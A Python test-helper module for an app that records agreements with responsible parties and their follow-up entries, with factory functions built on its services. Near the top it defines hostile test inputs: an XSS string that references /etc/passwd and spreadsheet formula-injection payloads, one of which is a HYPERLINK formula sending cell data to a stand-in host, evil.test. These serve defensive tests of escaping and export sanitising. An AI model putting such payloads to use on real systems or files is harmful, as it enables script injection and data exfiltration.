"""Helpers of the follow-up tests: agreements with responsible parties, and progress entries,
all written through the services (as the console and the staff page write them)."""

from __future__ import annotations

import datetime as dt

from agreements import services
from agreements.models import Agreement, AgreementFollowUp
from participants.models import Organisation

HOSTILE = "<script>alert(1)</script><img src=file:///etc/passwd>"
FORMULAS = [
    '=HYPERLINK("http://evil.test/?"&A1,"Clic")',
    "+1",
    "-2",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def make_agreement(
    session,
    *,
    by,
    text_es: str = "Compartir información sobre rutas de tráfico ilícito de migrantes.",
    text_en: str = "",
    countries: tuple[str, ...] = (),
    organisations: tuple[str, ...] = (),
    due_date: dt.date | None = None,
    term: str = Agreement.Term.SHORT,
    status: str = Agreement.Status.ADOPTED,
) -> Agreement:
    """An agreement of ``session`` recorded by ``by``; ``countries`` are ISO codes,
    ``organisations`` are ``Organisation.code``s."""
    return services.agreement_create(
        session=session,
        by=by,
        text_es=text_es,
        text_en=text_en,
        countries=countries,
        organisations=list(Organisation.objects.filter(code__in=organisations)),
        due_date=due_date,
        term=term,
        status=status,
    )


def add_entry(
    agreement: Agreement, *, by, status: str, date: dt.date, note: str = "Avance."
) -> AgreementFollowUp:
    return services.followup_record(agreement=agreement, by=by, status=status, date=date, note=note)
